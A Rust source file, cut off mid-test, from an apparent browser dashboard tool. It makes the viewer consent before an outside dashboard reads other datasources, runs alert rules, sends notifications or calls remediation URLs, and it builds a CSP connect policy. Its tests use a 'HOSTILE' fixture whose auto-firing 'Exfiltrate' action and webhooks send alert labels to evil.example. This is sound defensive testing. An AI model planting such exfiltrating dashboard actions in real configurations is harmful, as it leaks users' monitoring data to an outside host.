//! What a dashboard from outside may do before the person looking at it agrees.
//!
//! A dashboard in a link, a paste, a file or a Grafana import was written by
//! someone else. Drawing its panels from the datasource the viewer already
//! uses is harmless; anything beyond that is listed for the viewer to accept
//! first: reading another datasource, evaluating alert rules, sending
//! notifications anywhere, refreshing faster than a safe floor. Nothing
//! leaves the browser for an address whose origin the viewer has not
//! confirmed once ([`ConfirmedOrigins`], kept in this browser). Dashboards
//! shipped with the page or saved in this browser are trusted: their author is
//! the person who hosts the page or the viewer.

use crate::foundation::json::{Json, ToJson};
use crate::foundation::limits::{
    MIN_UNREVIEWED_ALERT_INTERVAL_SECONDS, MIN_UNREVIEWED_REFRESH_SECONDS,
};
use crate::foundation::ordered::{SortedMap, SortedSet};
use crate::model::dashboard::Dashboard;
use crate::model::datasource::Datasource;
use crate::model::refresh::parse_refresh;
use crate::model::url_state::DashboardRef;
use serde::{Deserialize, Serialize};

/// Where the dashboard on screen came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Provenance {
    /// Shipped with the page (`public/dashboards/`): written by whoever hosts it.
    Shipped,
    /// Saved in this browser by its user.
    Saved,
    /// Carried in a link (`inline=`).
    Link,
    /// Pasted, opened from a file, or imported from Grafana, not yet saved.
    Import,
}

impl Provenance {
    pub fn of(dashboard: &DashboardRef) -> Self {
        match dashboard {
            DashboardRef::Shipped(_) => Self::Shipped,
            DashboardRef::Saved(_) => Self::Saved,
            DashboardRef::Inline(_) => Self::Link,
        }
    }

    pub fn is_trusted(self) -> bool {
        matches!(self, Self::Shipped | Self::Saved)
    }

    /// How the header says where a dashboard from outside came from, beside
    /// its title, which anyone can write (one titled and numbered like a
    /// shipped dashboard must not pass for it); `None` for one shipped or
    /// saved here.
    pub fn outside_label(self) -> Option<&'static str> {
        match self {
            Self::Link => Some("from a link, not saved here"),
            Self::Import => Some("imported, not saved here"),
            Self::Shipped | Self::Saved => None,
        }
    }

    /// The trust banner's heading: a dashboard from outside asks for all it
    /// would do; one shipped or saved here is asked about only for what the
    /// link that opened it adds.
    pub fn banner_heading(self) -> &'static str {
        if self.is_trusted() {
            "This link asks for more than drawing this dashboard. Until you accept, it only draws its panels. It would also:"
        } else {
            "This dashboard comes from a link or an import. Until you accept, it only draws its panels from your current datasource. It would also:"
        }
    }

    fn key_part(self) -> &'static str {
        match self {
            Self::Shipped => "shipped",
            Self::Saved => "saved",
            Self::Link => "link",
            Self::Import => "import",
        }
    }
}

/// Origins (`scheme://host:port`) the user confirmed, kept in this browser.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ConfirmedOrigins {
    #[serde(default)]
    pub datasources: SortedSet<String>,
    #[serde(default)]
    pub notification_targets: SortedSet<String>,
}

impl ConfirmedOrigins {
    /// These origins less those `stored` no longer has (another tab forgot
    /// them). One `stored` has and these do not stays out: the page's
    /// connect policy, made from these, does not list it until a reload.
    pub fn still_confirmed_in(&self, stored: &ConfirmedOrigins) -> ConfirmedOrigins {
        let kept = |mine: &SortedSet<String>, theirs: &SortedSet<String>| {
            mine.iter()
                .filter(|o| theirs.contains(*o))
                .cloned()
                .collect()
        };
        ConfirmedOrigins {
            datasources: kept(&self.datasources, &stored.datasources),
            notification_targets: kept(&self.notification_targets, &stored.notification_targets),
        }
    }
}

/// The origin of an address, or `None` when it is not an http(s) URL without
/// user-info (such an address is never contacted).
pub fn origin_of(address: &str) -> Option<String> {
    // A query (an action's `?version=…`) says nothing about where it goes.
    let base = address.split(['?', '#']).next().unwrap_or(address);
    Datasource::parse(base).ok().map(|d| d.origin())
}

/// Whether a Content-Security-Policy source can name the host of `origin`.
/// Its grammar (CSP 3, `host-source`) takes dot-separated labels of ASCII
/// letters, digits and `-`: an IPv6 address in brackets, a name with `_` and
/// a name ending in `.` cannot be listed. Browsers then block the page's
/// requests there even once the user confirmed them (Chromium, measured: a
/// `connect-src` naming `http://[::1]:9098` or `http://my_prom:9095` still
/// refuses fetches to them).
pub fn policy_can_name(origin: &str) -> bool {
    host_of(origin).is_some_and(|host| {
        host.split('.').all(|label| {
            !label.is_empty()
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
    })
}

/// Whether the page's connect policy blocks a request to `address`: one
/// whose host no policy source can name ([`policy_can_name`]), unless it is
/// the page's own origin, which `'self'` covers. The page says so instead of
/// sending a request that fails as if nothing answered.
pub fn blocked_by_connect_policy(address: &str, page_origin: &str) -> bool {
    origin_of(address).is_some_and(|origin| origin != page_origin && !policy_can_name(&origin))
}

/// Whether the page's connection policy, fixed when it started, already lets
/// it reach `origin` (the page's own host, any port, or the default
/// datasource); an origin confirmed since takes a reload.
pub fn reachable_without_reload(page: &PageContext, origin: &str) -> bool {
    origin == page.default_datasource.origin()
        || host_of(origin).is_some_and(|host| host_of(&page.page_origin) == Some(host))
}

/// The host part of an origin (`http://127.0.0.1:9090` → `127.0.0.1`).
fn host_of(origin: &str) -> Option<String> {
    crate::foundation::http_url::HttpUrl::parse(origin)
        .ok()
        .map(|url| url.host)
}

/// What the page is and where it runs, for the decisions below.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PageContext {
    /// The page's own origin (`http://127.0.0.1:8080`).
    pub page_origin: String,
    /// The datasource used when nothing else is chosen.
    pub default_datasource: Datasource,
}

impl ConfirmedOrigins {
    /// Whether the page may query `datasource` without asking: the default
    /// one, one on the page's own host (Prometheus serving the page, or the
    /// demo on loopback), or one confirmed before.
    pub fn permits_datasource(&self, page: &PageContext, datasource: &Datasource) -> bool {
        let origin = datasource.origin();
        origin == page.default_datasource.origin()
            || host_of(&origin).is_some_and(|host| host_of(&page.page_origin) == Some(host))
            || self.datasources.contains(&origin)
    }

    /// Whether alerts may be sent to `address`. Only an origin the user
    /// confirmed qualifies: a notification carries series labels and values
    /// out of the browser.
    pub fn permits_notification(&self, address: &str) -> bool {
        origin_of(address).is_some_and(|origin| self.notification_targets.contains(&origin))
    }

    /// The Content-Security-Policy `connect-src` sources for this page: its
    /// own origin, any port of its own host, the default datasource and every
    /// confirmed origin.
    pub fn connect_sources(&self, page: &PageContext) -> Vec<String> {
        let mut sources: SortedSet<String> = SortedSet::new();
        sources.insert("'self'".to_string());
        if let (Some((scheme, _)), Some(host)) = (
            page.page_origin.split_once("://"),
            host_of(&page.page_origin),
        ) {
            sources.insert(format!("{scheme}://{host}:*"));
        }
        sources.insert(page.default_datasource.origin());
        // Only plain origins, as confirming writes them: a stored `*`,
        // `https:` or `'unsafe-inline'` (storage another version or tab
        // wrote) must not widen the policy.
        let plain_origin = |s: &&String| origin_of(s).as_ref() == Some(*s);
        sources.extend(self.datasources.iter().filter(plain_origin).cloned());
        sources.extend(
            self.notification_targets
                .iter()
                .filter(plain_origin)
                .cloned(),
        );
        sources
            .into_iter()
            .filter(|s| {
                s.chars()
                    .all(|c| c.is_ascii_graphic() && c != ';' && c != ',')
            })
            // A source the grammar cannot name would only be ignored (with a
            // console warning); requests there fail with a message instead.
            .filter(|s| s.starts_with('\'') || policy_can_name(s.trim_end_matches(":*")))
            .collect()
    }
}

/// The policy the page adds to its own once it knows where it may connect
/// (a second policy can only narrow the static one in `index.html`).
pub fn connect_policy(confirmed: &ConfirmedOrigins, page: &PageContext) -> String {
    format!("connect-src {}", confirmed.connect_sources(page).join(" "))
}

/// One thing a dashboard from outside would do beyond drawing its panels.
#[derive(Debug, Clone, PartialEq)]
pub enum Capability {
    /// Read from a datasource other than the one in use.
    Datasource { address: String, origin: String },
    /// Read another tenant's data (`X-Scope-OrgID` on every request).
    Tenant { tenant: String },
    /// Evaluate alert rules in this tab.
    AlertRules { names: Vec<String> },
    /// Send notifications (Alertmanager or a webhook) to an address.
    Notify { address: String, origin: String },
    /// Call an address to remediate a rule's alerts, by hand or by itself.
    Remediate {
        rule: String,
        action: String,
        address: String,
        origin: String,
        automatic: bool,
    },
    /// Refresh more often than [`MIN_UNREVIEWED_REFRESH_SECONDS`].
    FastRefresh { seconds: u32 },
    /// Evaluate a rule more often than [`MIN_UNREVIEWED_ALERT_INTERVAL_SECONDS`].
    FastAlertInterval { rule: String, seconds: f64 },
    /// Evaluate a trusted dashboard's alert rules on another server's data
    /// than their home's (see [`AlertHomes`]), where they notify `targets` or
    /// run the actions `automatic` by themselves: data they were not written
    /// for would trigger them.
    AlertsOnOtherData {
        address: String,
        home: String,
        targets: Vec<String>,
        automatic: Vec<String>,
    },
}

impl Capability {
    /// A sentence for the banner.
    pub fn describe(&self) -> String {
        match self {
            Self::Datasource { address, .. } => format!("read its data from {address} instead of your current datasource"),
            Self::Tenant { tenant } => format!(
                "read the data of tenant {:?} (sent as X-Scope-OrgID with every request)",
                crate::foundation::limits::excerpt(tenant, 60)
            ),
            Self::AlertRules { names } => format!(
                "evaluate {} alert rule{} in this tab ({})",
                names.len(),
                if names.len() == 1 { "" } else { "s" },
                names.iter().take(5).cloned().collect::<Vec<_>>().join(", ")
            ),
            Self::Remediate { rule, action, address, automatic, .. } => format!(
                "call {address} to remediate {rule} (\"{action}\"){}",
                if *automatic { ", by itself when it fires" } else { ", when you run it" }
            ),
            Self::Notify { address, .. } => format!(
                "send firing alerts, with their labels and values, to {address}"
            ),
            Self::FastRefresh { seconds } => format!(
                "refresh every {seconds} s (without your consent: every {MIN_UNREVIEWED_REFRESH_SECONDS} s at most)"
            ),
            Self::FastAlertInterval { rule, seconds } => format!(
                "evaluate rule {rule:?} every {seconds} s"
            ),
            Self::AlertsOnOtherData { address, home, targets, automatic } => {
                let mut effects = Vec::new();
                if !targets.is_empty() {
                    effects.push(format!("send their notifications to {}", listed(targets)));
                }
                if !automatic.is_empty() {
                    effects.push(format!("run by themselves the actions {}", listed(automatic)));
                }
                format!(
                    "evaluate its alert rules on the data of {address} from now on, instead of {home}, and {}",
                    effects.join(" and ")
                )
            }
        }
    }
}

/// Up to five items, quoted, and how many more.
fn listed(items: &[String]) -> String {
    let shown: Vec<String> = items
        .iter()
        .take(5)
        .map(|item| format!("{:?}", crate::foundation::limits::excerpt(item, 80)))
        .collect();
    match items.len().saturating_sub(5) {
        0 => shown.join(", "),
        more => format!("{} and {more} more", shown.join(", ")),
    }
}

/// What a dashboard (and the link that opened it) would do that the viewer
/// has not agreed to. Empty for a trusted dashboard whose link names no
/// unconfirmed datasource.
pub fn review(
    provenance: Provenance,
    dashboard: &Dashboard,
    link_datasource: Option<&Datasource>,
    link_refresh: Option<&str>,
    confirmed: &ConfirmedOrigins,
    page: &PageContext,
) -> Vec<Capability> {
    let mut asks = Vec::new();
    let dashboard_datasource = if provenance.is_trusted() {
        None // its author chose it: the host, or the viewer
    } else {
        dashboard
            .datasource
            .as_deref()
            .and_then(|d| Datasource::parse(d).ok())
    };
    for datasource in link_datasource
        .into_iter()
        .chain(dashboard_datasource.as_ref())
    {
        let asked = asks.iter().any(|a| matches!(a, Capability::Datasource { origin, .. } if *origin == datasource.origin()));
        if !asked && !confirmed.permits_datasource(page, datasource) {
            asks.push(Capability::Datasource {
                address: datasource.to_string(),
                origin: datasource.origin(),
            });
        }
    }
    if !provenance.is_trusted() {
        if let Some(tenant) = &dashboard.datasource_options.tenant {
            asks.push(Capability::Tenant {
                tenant: tenant.clone(),
            });
        }
        // An SLO's burn-rate alerts run and notify like any rule.
        let rules = dashboard.evaluated_rules();
        if !rules.is_empty() {
            asks.push(Capability::AlertRules {
                names: rules.iter().map(|r| r.name.clone()).collect(),
            });
            for rule in &rules {
                let seconds = rule.interval_seconds().unwrap_or(60.0);
                if seconds < MIN_UNREVIEWED_ALERT_INTERVAL_SECONDS {
                    asks.push(Capability::FastAlertInterval {
                        rule: rule.name.clone(),
                        seconds,
                    });
                }
            }
        }
        if let Some(seconds) =
            parse_refresh(&dashboard.refresh).filter(|&s| s < MIN_UNREVIEWED_REFRESH_SECONDS)
        {
            asks.push(Capability::FastRefresh { seconds });
        }
    }
    if let Some(seconds) = link_refresh
        .and_then(parse_refresh)
        .filter(|&s| s < MIN_UNREVIEWED_REFRESH_SECONDS)
    {
        if !asks
            .iter()
            .any(|a| matches!(a, Capability::FastRefresh { .. }))
        {
            asks.push(Capability::FastRefresh { seconds });
        }
    }
    for address in dashboard.notify.addresses() {
        // A dashboard from outside names every target: confirming is per
        // origin, and a shared host (a chat service's webhooks) serves
        // anyone's channel.
        if provenance.is_trusted() && confirmed.permits_notification(address) {
            continue;
        }
        // An address that is not an http(s) URL is never contacted, so not asked about.
        if let Some(origin) = origin_of(address) {
            asks.push(Capability::Notify {
                address: address.clone(),
                origin,
            });
        }
    }
    for rule in &dashboard.alerts {
        for action in &rule.actions {
            // A trusted dashboard's action run by hand is confirmed when run
            // (the request is shown first); only one that would run by
            // itself is asked about up front.
            let asked_when_run = provenance.is_trusted() && !action.automatic;
            let known = provenance.is_trusted() && confirmed.permits_notification(&action.url);
            if asked_when_run || known {
                continue;
            }
            if let Some(origin) = origin_of(&action.url) {
                asks.push(Capability::Remediate {
                    rule: rule.name.clone(),
                    action: action.name.clone(),
                    address: action.url.clone(),
                    origin,
                    automatic: action.automatic,
                });
            }
        }
    }
    asks
}

/// Where the alert rules of each dashboard shipped or saved here run without
/// asking, their *home*: the server the dashboard was last saved on or moved
/// to in this browser, else its own datasource, else the page's default. A
/// link's `datasource=` naming another server (a staging server the viewer
/// confirmed once, say) is data the rules were not written for.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct AlertHomes {
    #[serde(default)]
    pub homes: SortedMap<String, String>,
}

/// At most this many dashboards' homes are kept; past it, one is not moved
/// (its rules keep asking away from their default home).
pub const MAX_ALERT_HOMES: usize = 1000;

impl AlertHomes {
    fn key(provenance: Provenance, id: &str) -> String {
        format!("{}.{id}", provenance.key_part())
    }

    /// The server `dashboard`'s rules run on without asking.
    pub fn home(
        &self,
        provenance: Provenance,
        dashboard: &Dashboard,
        page_default: &Datasource,
    ) -> String {
        if let Some(moved) = self.homes.get(&Self::key(provenance, &dashboard.id)) {
            return moved.clone();
        }
        match dashboard.datasource.as_deref().map(Datasource::parse) {
            Some(Ok(own)) => own.base_url().to_string(),
            _ => page_default.base_url().to_string(),
        }
    }

    /// Makes `to` the home of the trusted dashboard `id` (saved there, or
    /// moved there by the viewer); whether anything changed.
    pub fn move_home(&mut self, provenance: Provenance, id: &str, to: &Datasource) -> bool {
        let key = Self::key(provenance, id);
        let fits = self.homes.len() < MAX_ALERT_HOMES || self.homes.contains_key(&key);
        let already = self.homes.get(&key).map(String::as_str) == Some(to.base_url());
        if !provenance.is_trusted() || !fits || already {
            return false;
        }
        self.homes.insert(key, to.base_url().to_string());
        true
    }

    /// Forgets the home of the dashboard `id` (deleted); whether it had one.
    pub fn forget(&mut self, provenance: Provenance, id: &str) -> bool {
        self.homes.remove(&Self::key(provenance, id)).is_some()
    }

    /// `evaluated` when a trusted dashboard's rules would run there and it is
    /// not their home; `None` at home, and for a dashboard from outside (its
    /// banner asks about everything it would do).
    pub fn away<'a>(
        &self,
        provenance: Provenance,
        dashboard: &Dashboard,
        evaluated: &'a Datasource,
        page_default: &Datasource,
    ) -> Option<&'a Datasource> {
        (provenance.is_trusted()
            && self.home(provenance, dashboard, page_default) != evaluated.base_url())
        .then_some(evaluated)
    }
}

/// What to ask before a trusted dashboard's rules run away from their `home`
/// (on `away`, see [`AlertHomes::away`]) where they would reach outside:
/// notify its targets or run actions by themselves. Accepting moves their
/// home there. Rules that only show their state on the page are not asked
/// about; their state is kept apart ([`alert_state_namespace_on`]).
pub fn alerting_away_ask(
    dashboard: &Dashboard,
    away: Option<&Datasource>,
    home: &str,
) -> Option<Capability> {
    let other = away?;
    let rules = dashboard.evaluated_rules();
    let targets: Vec<String> = dashboard.notify.addresses().cloned().collect();
    let automatic: Vec<String> = rules
        .iter()
        .flat_map(|rule| rule.actions.iter().filter(|a| a.automatic))
        .map(|action| action.name.clone())
        .collect();
    (!rules.is_empty() && (!targets.is_empty() || !automatic.is_empty())).then(|| {
        Capability::AlertsOnOtherData {
            address: other.to_string(),
            home: home.to_string(),
            targets,
            automatic,
        }
    })
}

/// The origins accepting `asks` confirms.
pub fn confirm(confirmed: &mut ConfirmedOrigins, asks: &[Capability]) {
    for ask in asks {
        match ask {
            Capability::Datasource { origin, .. } => {
                confirmed.datasources.insert(origin.clone());
            }
            Capability::Notify { origin, .. } | Capability::Remediate { origin, .. } => {
                confirmed.notification_targets.insert(origin.clone());
            }
            _ => {}
        }
    }
}

/// The dashboard as it may run without the viewer's consent: no alert rules
/// evaluated, no notification targets, its own datasource ignored, and a
/// refresh no faster than the floor. What it draws is otherwise unchanged.
pub fn inert(dashboard: &Dashboard) -> Dashboard {
    let mut inert = dashboard.clone();
    inert.alerts.clear();
    // Their alerts would run: until the viewer accepts, no SLOs either.
    inert.slos.clear();
    inert.notify.alertmanager = None;
    inert.notify.webhooks.clear();
    inert.datasource = None;
    // Another tenant is another datasource.
    inert.datasource_options.tenant = None;
    if parse_refresh(&inert.refresh).is_some_and(|s| s < MIN_UNREVIEWED_REFRESH_SECONDS) {
        inert.refresh = format!("{MIN_UNREVIEWED_REFRESH_SECONDS}s");
    }
    inert
}

/// What [`inert`] takes out of `dashboard`, in words (empty when nothing):
/// said where a dashboard nobody accepted is edited or saved, since saved it
/// would be trusted.
pub fn left_out_when_inert(dashboard: &Dashboard) -> Vec<String> {
    let counted = |count: usize, one: &str, many: &str| {
        format!("{count} {}", if count == 1 { one } else { many })
    };
    let mut parts = Vec::new();
    if !dashboard.alerts.is_empty() {
        parts.push(counted(dashboard.alerts.len(), "alert rule", "alert rules"));
    }
    if !dashboard.slos.is_empty() {
        parts.push(counted(dashboard.slos.len(), "SLO", "SLOs"));
    }
    let targets = dashboard.notify.addresses().count();
    if targets > 0 {
        parts.push(counted(
            targets,
            "notification target",
            "notification targets",
        ));
    }
    if let Some(datasource) = &dashboard.datasource {
        parts.push(format!(
            "its datasource {}",
            crate::foundation::limits::excerpt(datasource, 80)
        ));
    }
    if dashboard.datasource_options.tenant.is_some() {
        parts.push("its tenant".to_string());
    }
    if parse_refresh(&dashboard.refresh).is_some_and(|s| s < MIN_UNREVIEWED_REFRESH_SECONDS) {
        parts.push(format!(
            "its refresh faster than {MIN_UNREVIEWED_REFRESH_SECONDS} s"
        ));
    }
    parts
}

/// `dashboard` as it may be edited and saved without the viewer's consent,
/// and what that left out, in words (empty, and the dashboard unchanged, when
/// nothing was).
pub fn without_unaccepted(dashboard: Dashboard) -> (Dashboard, Vec<String>) {
    let left_out = left_out_when_inert(&dashboard);
    if left_out.is_empty() {
        (dashboard, left_out)
    } else {
        (inert(&dashboard), left_out)
    }
}

/// A link's refresh as it may run without consent: no faster than the floor.
pub fn bounded_refresh(refresh: &str) -> String {
    match parse_refresh(refresh) {
        Some(seconds) if seconds < MIN_UNREVIEWED_REFRESH_SECONDS => {
            format!("{MIN_UNREVIEWED_REFRESH_SECONDS}s")
        }
        _ => refresh.to_string(),
    }
}

/// 64-bit FNV-1a: a stable fingerprint (not a secret) for storage keys.
pub fn fingerprint(text: &str) -> String {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in text.bytes() {
        hash ^= u64::from(byte);
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    format!("{hash:016x}")
}

/// The key under which a dashboard's alert state, history, silences and
/// evaluation lock live: where it came from, its id, and a fingerprint of its
/// rules. A link with the id of a saved dashboard gets a key of its own, so it
/// can neither read nor overwrite that dashboard's alert state.
pub fn alert_state_namespace(provenance: Provenance, dashboard: &Dashboard) -> String {
    // Every rule evaluated, an SLO's alerts too: editing one starts its state afresh.
    let rules: Vec<Json> = dashboard
        .evaluated_rules()
        .iter()
        .map(ToJson::to_json)
        .collect();
    let fingerprint = fingerprint(&Json::Array(rules).to_string());
    format!("{}.{}.{fingerprint}", provenance.key_part(), dashboard.id)
}

/// [`alert_state_namespace`] of rules evaluated on `other`, a server that is
/// not their home (see [`AlertHomes::away`]; `None`: their home). Such a
/// view gets a family of its own, marked on its provenance
/// (`saved@<fingerprint>.…`, which no dashboard id can write): it neither
/// writes the dashboard's state and history nor takes its evaluation lock,
/// and its pruning of earlier rules leaves the dashboard's alone.
pub fn alert_state_namespace_on(
    provenance: Provenance,
    dashboard: &Dashboard,
    other: Option<&Datasource>,
) -> String {
    let namespace = alert_state_namespace(provenance, dashboard);
    match other {
        None => namespace,
        Some(other) => {
            let rest = &namespace[provenance.key_part().len()..];
            let server = fingerprint(&format!("datasource|{other}"));
            format!("{}@{server}{rest}", provenance.key_part())
        }
    }
}

/// Whether `namespace` is one of `family`'s (see [`alert_state_namespace`]):
/// the family, a dot and a rules fingerprint, so the family `saved.a` does not
/// claim the state of the dashboard `a.b`.
pub fn is_namespace_of(namespace: &str, family: &str) -> bool {
    namespace
        .strip_prefix(family)
        .and_then(|rest| rest.strip_prefix('.'))
        .is_some_and(|fingerprint| {
            fingerprint.len() == 16 && fingerprint.bytes().all(|b| b.is_ascii_hexdigit())
        })
}

/// The Web Lock a tab holds while it evaluates the rules of `namespace`:
/// one tab at a time evaluates and notifies.
pub fn evaluation_lock_name(namespace: &str) -> String {
    format!("foresight-alerts:{namespace}")
}

/// Whether the stored state and history under `namespace` may be removed by
/// a tab opening `current` (of the same dashboard): one of the dashboard's
/// earlier rule sets, and not one another tab is evaluating right now (it
/// may be editing the rules and not have saved them). `held_locks` are the
/// Web Locks held in this browser, `None` when it cannot say.
pub fn earlier_rules_state_removable(
    namespace: &str,
    current: &str,
    family: &str,
    held_locks: Option<&SortedSet<String>>,
) -> bool {
    // From the home view, the dashboard's state away from home goes too.
    let mirrored_home = || {
        !current.contains('@')
            && at_home(namespace).is_some_and(|home| is_namespace_of(&home, family))
    };
    namespace != current
        && (is_namespace_of(namespace, family) || mirrored_home())
        && !held_locks.is_some_and(|held| held.contains(evaluation_lock_name(namespace).as_str()))
}

/// The home namespace an away one (`saved@<server>.<id>.<rules>`, see
/// [`alert_state_namespace_on`]) stands beside; `None` for a home one.
fn at_home(namespace: &str) -> Option<String> {
    let (head, rest) = namespace.split_once('.')?;
    let (provenance, server) = head.split_once('@')?;
    (server.len() == 16 && server.bytes().all(|b| b.is_ascii_hexdigit()))
        .then(|| format!("{provenance}.{rest}"))
}

/// Whether the dashboard whose alert state lives under `namespace` (see
/// [`alert_state_namespace`]) is trusted: shipped or saved in this browser.
/// Only such a dashboard's actions may run by themselves.
pub fn namespace_is_trusted(namespace: &str) -> bool {
    // On another server's data too: the viewer accepted that where its rules
    // would reach outside (`Capability::AlertsOnOtherData`).
    let provenance = namespace.split(['.', '@']).next().unwrap_or_default();
    [Provenance::Shipped, Provenance::Saved]
        .iter()
        .any(|p| provenance == p.key_part())
        && namespace.contains('.')
}

/// A fingerprint of a whole dashboard, to remember in this tab that the viewer
/// accepted it.
pub fn dashboard_fingerprint(dashboard: &Dashboard) -> String {
    fingerprint(&ToJson::to_json(dashboard).to_string())
}

/// Whether saving the dashboard `id`, edited from the address `editing_from`
/// (or from an import), would replace another dashboard saved here under the
/// same id (`saved_here`). A link, an import or a shipped dashboard may carry
/// the id of one the user saved; the user is asked before it is replaced.
pub fn save_replaces_another(
    editing_from: &DashboardRef,
    editing_import: bool,
    id: &str,
    saved_here: bool,
) -> bool {
    let editing_that_one = matches!(editing_from, DashboardRef::Saved(saved) if saved == id);
    saved_here && (editing_import || !editing_that_one)
}

/// The key of this tab's answer that covers each of `asks`, in order. What the
/// link's own parameters ask (its `datasource=` and `refresh=`) is answered
/// apart from what the dashboard asks: editing or saving the dashboard gives
/// it a new fingerprint, and the viewer's answer about the link must not be
/// asked again for that. `base` is the dashboard as it was when asked (as it
/// was when editing began); the link's answer holds for its dashboard's id.
pub fn answer_keys(
    asks: &[Capability],
    base: &Dashboard,
    link_datasource: Option<&Datasource>,
    link_refresh: Option<&str>,
) -> Vec<String> {
    let dashboard_key = fingerprint(&format!("dashboard|{}", dashboard_fingerprint(base)));
    let link_key = fingerprint(&format!(
        "link|{}|{:?}|{:?}",
        base.id,
        link_datasource.map(Datasource::to_string),
        link_refresh
    ));
    let link_refresh_seconds = link_refresh.and_then(parse_refresh);
    asks.iter()
        .map(|ask| {
            let from_link = match ask {
                // The server and the dashboard's rules together (not the
                // link's refresh, which the viewer changes while looking).
                Capability::AlertsOnOtherData { address, .. } => {
                    return fingerprint(&format!(
                        "other-data|{}|{address}|{dashboard_key}",
                        base.id
                    ));
                }
                Capability::Datasource { origin, .. } => {
                    link_datasource.is_some_and(|d| d.origin() == *origin)
                }
                Capability::FastRefresh { seconds } => link_refresh_seconds == Some(*seconds),
                _ => false,
            };
            if from_link {
                link_key.clone()
            } else {
                dashboard_key.clone()
            }
        })
        .collect()
}

/// This tab's answer to asks kept under `keys` (from [`answer_keys`]):
/// accepted if every one was accepted, declined if all were answered and one
/// was declined, `None` while one is unanswered.
pub fn tab_answer(keys: &[String], answers: &SortedMap<String, bool>) -> Option<bool> {
    keys.iter().try_fold(true, |all_accepted, key| {
        answers.get(key).map(|&accepted| all_accepted && accepted)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = r#"{"schemaVersion": 1, "id": "service-health", "title": "Looks harmless",
        "refresh": "1s", "datasource": "https://evil.example/prom",
        "panels": [{"id": "p", "title": "P", "type": "timeseries", "targets": [{"expr": "up"}]}],
        "layout": [{"panel": "p", "x": 0, "y": 0, "w": 24, "h": 8}],
        "alerts": [{"name": "Leak", "expr": "up", "condition": {"kind": "threshold", "op": ">", "value": -1}, "interval": "1s",
            "actions": [{"name": "Exfiltrate", "url": "https://evil.example/run", "body": "{{ $labels }}", "automatic": true}]}],
        "notify": {"webhooks": ["https://evil.example/collect"], "alertmanager": "http://am.example:9093"}}"#;

    fn page() -> PageContext {
        PageContext {
            page_origin: "http://127.0.0.1:8080".into(),
            default_datasource: Datasource::parse("http://127.0.0.1:9090").unwrap(),
        }
    }

    fn hostile() -> Dashboard {
        Dashboard::from_json(HOSTILE).unwrap()
    }

    #[test]
    fn a_link_lists_everything_beyond_drawing() {
        let asks = review(
            Provenance::Link,
            &hostile(),
            None,
            None,
            &ConfirmedOrigins::default(),
            &page(),
        );
        let described: Vec<String> = asks.iter().map(Capability::describe).collect();
        assert_eq!(asks.len(), 7, "{described:#?}");
        assert!(described.iter().any(|d| d
            == "call https://evil.example/run to remediate Leak (\"Exfiltrate\"), by itself when it fires"));
        assert!(
            matches!(&asks[0], Capability::Datasource { origin, .. } if origin == "https://evil.example")
        );
        assert!(described.iter().any(
            |d| d.contains("send firing alerts") && d.contains("https://evil.example/collect")
        ));
        assert!(described
            .iter()
            .any(|d| d.contains("http://am.example:9093")));
        assert!(described.iter().any(|d| d.contains("refresh every 1 s")));
        assert!(described
            .iter()
            .any(|d| d.contains("rule \"Leak\" every 1 s")));
    }

    #[test]
    fn another_tabs_forgetting_counts_here_and_its_confirming_waits_for_a_reload() {
        let mut mine = ConfirmedOrigins::default();
        mine.datasources.insert("https://a.example".into());
        mine.notification_targets
            .insert("https://hooks.example".into());
        let mut stored = mine.clone();
        stored.notification_targets.remove("https://hooks.example");
        stored.datasources.insert("https://new.example".into());
        let now = mine.still_confirmed_in(&stored);
        assert_eq!(
            now.datasources.iter().collect::<Vec<_>>(),
            ["https://a.example"]
        );
        assert!(now.notification_targets.is_empty());
    }

    #[test]
    fn a_namespace_belongs_to_its_own_family_only() {
        let namespace = alert_state_namespace(Provenance::Saved, &hostile());
        assert!(is_namespace_of(&namespace, "saved.service-health"));
        assert!(!is_namespace_of(&namespace, "saved.service"));
        assert!(!is_namespace_of("saved.a.b.0123456789abcdef", "saved.a"));
        assert!(is_namespace_of("saved.a.b.0123456789abcdef", "saved.a.b"));
        assert!(!is_namespace_of("saved.a.0123456789abcde", "saved.a"));
    }

    #[test]
    fn earlier_rules_state_stays_while_another_tab_evaluates_it() {
        let (current, earlier, edited) = (
            "saved.a.0123456789abcdef",
            "saved.a.1111111111111111",
            "saved.a.2222222222222222",
        );
        // Another tab evaluates the rules it is editing.
        let held: SortedSet<String> = [evaluation_lock_name(edited), "foresight.tab.x".into()]
            .into_iter()
            .collect();
        let removable =
            |namespace| earlier_rules_state_removable(namespace, current, "saved.a", Some(&held));
        assert!(removable(earlier));
        assert!(!removable(edited));
        assert!(!removable(current));
        assert!(!removable("saved.a.b.3333333333333333"));
        // A browser that cannot say which locks are held: earlier rules go.
        assert!(earlier_rules_state_removable(
            edited, current, "saved.a", None
        ));
    }

    #[test]
    fn saving_over_another_saved_dashboard_is_asked_about() {
        let saved = DashboardRef::Saved("prod".into());
        let link = DashboardRef::Inline("abc".into());
        let shipped = DashboardRef::Shipped("prod".into());
        // Saving the saved dashboard being edited replaces only itself.
        assert!(!save_replaces_another(&saved, false, "prod", true));
        // A link, a shipped dashboard or an import with its id would replace it.
        assert!(save_replaces_another(&link, false, "prod", true));
        assert!(save_replaces_another(&shipped, false, "prod", true));
        assert!(save_replaces_another(&saved, true, "prod", true));
        // Another id chosen in the settings while editing a saved one.
        assert!(save_replaces_another(&saved, false, "other", true));
        // Nothing saved under that id: nothing to replace.
        assert!(!save_replaces_another(&link, true, "prod", false));
    }

    #[test]
    fn an_answer_about_the_links_own_parameters_outlives_edits_and_saves() {
        let link_datasource = Datasource::parse("https://other.example/prom").unwrap();
        let ask = |provenance, dashboard: &Dashboard| {
            let asks = review(
                provenance,
                dashboard,
                Some(&link_datasource),
                Some("1s"),
                &ConfirmedOrigins::default(),
                &page(),
            );
            let keys = answer_keys(&asks, dashboard, Some(&link_datasource), Some("1s"));
            (asks, keys)
        };
        let (asks, keys) = ask(Provenance::Link, &hostile());
        assert_eq!(keys.len(), asks.len());
